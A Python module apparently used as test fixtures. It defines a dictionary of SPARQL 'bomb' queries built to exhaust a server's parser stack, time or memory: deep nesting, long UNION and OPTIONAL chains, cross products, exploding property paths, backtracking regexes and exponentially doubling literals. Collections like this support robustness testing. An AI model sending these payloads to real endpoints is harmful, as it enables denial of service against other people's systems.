"""Queries made to exhaust a server: its parser's stack, its time, its memory, or the size of its answers."""

__all__ = ["BOMBS"]

_ANY = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l ."
_DEEP = 3_000

BOMBS: dict[str, str] = {
    "nested brackets": "ASK {" + "{" * 20_000 + "}" * 20_000 + "}",
    "nested parentheses": "ASK { FILTER(" + "(" * 20_000 + "1" + ")" * 20_000 + ") }",
    "nested blank nodes": "ASK { " + "[ ?p " * 10_000 + "1" + " ]" * 10_000 + " . }",
    "a chain of UNION": "ASK {" + " UNION ".join(["{ ?s ?p ?o }"] * _DEEP) + "}",
    "a chain of OPTIONAL": "ASK { ?s ?p ?o " + "OPTIONAL { ?s ?p ?o } " * _DEEP + "}",
    "a chain of ||": "ASK { FILTER(" + " || ".join(["true"] * _DEEP) + ") }",
    "a chain of +": "ASK { FILTER(" + "1+" * 30_000 + "1) }",
    "a chain of signed numbers": "ASK { FILTER(1" + "+1" * 15_000 + ") }",
    "a chain of objects": "ASK { ?s ?p ?o" + ",?o" * 15_000 + " }",
    "a chain of predicates": "ASK { ?s ?p ?o" + ";?p ?o" * 10_000 + " }",
    "a chain of path steps": "ASK { ?s " + "/".join(["<p>"] * _DEEP) + " ?o }",
    "a cross product, counted": f"SELECT (COUNT(*) AS ?n) {{ {_ANY} }}",
    "a cross product, sorted": f"SELECT * {{ {_ANY} }} ORDER BY ?c ?f ?i",
    "a cross product, distinct": f"SELECT DISTINCT * {{ {_ANY} }}",
    "a cross product, joined into one string": f"SELECT (GROUP_CONCAT(STR(?c)) AS ?x) {{ {_ANY} }}",
    "a cross product, written out": f"SELECT * {{ {_ANY} }}",
    "a cross product, as a graph": f"CONSTRUCT {{ ?a ?e ?i }} {{ {_ANY} }}",
    "a path explosion": "SELECT (COUNT(*) AS ?n) { ?s (<a>|!<b>)* ?o . ?o (<c>|!<d>)* ?x . ?x (<e>|!<f>)* ?y }",
    "a path both ways": "SELECT (COUNT(*) AS ?n) { ?s ((!<a>)|(^(!<b>)))* ?o . ?o ((!<a>)|(^(!<b>)))* ?x }",
    "a million rows of VALUES": "SELECT * { VALUES ?x { " + "1 " * 1_000_000 + "} }",
    "VALUES times VALUES": "SELECT (COUNT(*) AS ?n) {"
    + "".join(f" VALUES ?v{n} {{ {'1 ' * 1000}}}" for n in range(6))
    + "}",
    "a backtracking pattern": "ASK { FILTER(REGEX('" + "a" * 30_000 + "', '^(a+)+$|(a|aa)+b')) }",
    "a pattern that counts": "ASK { ?s ?p ?o FILTER(REGEX(STR(?o), '((((a{0,99}){0,99}){0,99}){0,99}){0,99}')) }",
    "a huge literal": "SELECT ('" + "x" * 10_000_000 + "' AS ?x) {}",
    "a literal that doubles": "SELECT * { BIND('xxxxxxxxxx' AS ?x0) "
    + "".join(f"BIND(CONCAT(?x{n}, ?x{n}, ?x{n}, ?x{n}) AS ?x{n + 1}) " for n in range(20))
    + "}",
}
